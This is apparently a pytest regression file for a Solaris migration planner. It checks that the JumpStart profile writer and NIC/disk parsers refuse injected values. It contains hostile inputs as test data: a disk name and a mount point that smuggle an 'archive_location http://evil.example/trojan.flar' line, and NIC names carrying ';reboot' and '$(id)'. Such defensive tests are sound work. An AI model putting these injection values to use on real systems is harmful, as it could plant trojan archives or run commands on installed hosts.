"""Issue #10, attack 4: JumpStart profile injection and unchecked NIC names.

A spec disk named ``"c1t0d0\\narchive_location http://.../trojan.flar\\n#"`` put that line into
the profile; NIC names such as ``e1000g0;reboot`` and ``bge0$(id)`` were accepted and mapped
into zonecfg commands.  Readers now refuse them (naming the file), and the profile writer
refuses any disk, slice or mount point that is not one by the Solaris grammar.
"""

from __future__ import annotations

import json

import pytest

from planner.domain.jumpstart import jumpstart_profile, sysidcfg
from planner.domain.options import NicOverride, Overrides
from planner.domain.plan import compute_plan
from planner.domain.quoting import UnsafeValueError
from planner.domain.samples import seed_pair
from planner.solaris.disks import parse_iostat_en
from planner.solaris.errors import SolarisParseError
from planner.solaris.network import parse_dladm_show_dev, parse_dladm_show_link, parse_ifconfig
from planner.solaris.spec import read_hardware_spec

TROJAN_DISK = "c1t0d0\narchive_location http://evil.example/trojan.flar\n#"


def _spec(**overrides: object) -> str:
    spec: dict[str, object] = {
        "hostname": "newhost",
        "nics": [{"name": "e1000g0", "link": "up"}],
        "disks": [{"name": "c1t0d0", "size_gb": 146}],
    }
    spec.update(overrides)
    return json.dumps(spec)


def test_a_disk_name_carrying_profile_lines_is_refused_by_the_spec_reader() -> None:
    with pytest.raises(SolarisParseError) as caught:
        read_hardware_spec(_spec(disks=[{"name": TROJAN_DISK, "size_gb": 146}]), source="evil.json")
    assert caught.value.source == "evil.json"
    assert "disks[0].name" in caught.value.message


@pytest.mark.parametrize("name", ["e1000g0;reboot", "bge0$(id)", "bge0 1", "e1000g0\nbge1", "0bge", "x" * 40])
def test_hostile_nic_names_are_refused_by_every_reader(name: str) -> None:
    with pytest.raises(SolarisParseError, match=r"nics\[0\]\.name"):
        read_hardware_spec(_spec(nics=[{"name": name}]), source="evil.json")
    with pytest.raises(SolarisParseError):
        parse_dladm_show_dev(f"{name} link: up speed: 1000 Mbps duplex: full\n", source="dladm-show-dev")
    with pytest.raises(SolarisParseError):
        parse_dladm_show_link(f"{name} type: legacy mtu: 1500 device: {name}\n", source="dladm-show-link")
    with pytest.raises(SolarisParseError):
        parse_ifconfig(f"{name}: flags=1000843<UP> mtu 1500 index 2\n", source="ifconfig-a")


def test_hostile_disk_names_are_refused_by_iostat() -> None:
    text = "c0t0d0;reboot  Soft Errors: 0 Hard Errors: 0 Transport Errors: 0\nSize: 1GB <1 bytes>\n"
    with pytest.raises(SolarisParseError, match="iostat-En:1: disk name"):
        parse_iostat_en(text, source="iostat-En")


def test_the_profile_writer_refuses_a_disk_that_skipped_the_readers() -> None:
    plan = compute_plan(*seed_pair())
    plan.layout.disks[0].name = TROJAN_DISK
    with pytest.raises(UnsafeValueError):
        jumpstart_profile(plan.source, plan.destination, plan.layout, plan.options)


def test_the_profile_writer_refuses_a_mount_point_with_a_newline() -> None:
    plan = compute_plan(*seed_pair())
    target = next(s for d in plan.layout.disks for s in d.slices if s.mount_point.startswith("/"))
    target.mount_point = "/export\narchive_location http://evil.example/trojan.flar"
    with pytest.raises(UnsafeValueError):
        jumpstart_profile(plan.source, plan.destination, plan.layout, plan.options)


def test_profile_and_sysidcfg_have_only_their_own_lines() -> None:
    plan = compute_plan(*seed_pair())
    profile = jumpstart_profile(plan.source, plan.destination, plan.layout, plan.options)
    keywords = {line.split()[0] for line in profile.splitlines() if line and not line.startswith("#")}
    assert keywords <= {"install_type", "archive_location", "partitioning", "filesys", "fdisk"}
    assert profile.count("archive_location") == 1
    text = sysidcfg(plan.source, plan.destination, plan.global_zone_port, plan.options)
    assert all("=" in line for line in text.splitlines())


def test_a_nic_override_target_is_checked_before_it_reaches_zonecfg() -> None:
    source, destination = seed_pair()
    overrides = Overrides(nics=[NicOverride("z-app", "ce0", action="map", target="e1000g1;reboot")])
    with pytest.raises(SolarisParseError, match="NIC name 'e1000g1;reboot' is not valid"):
        compute_plan(source, destination, overrides=overrides)
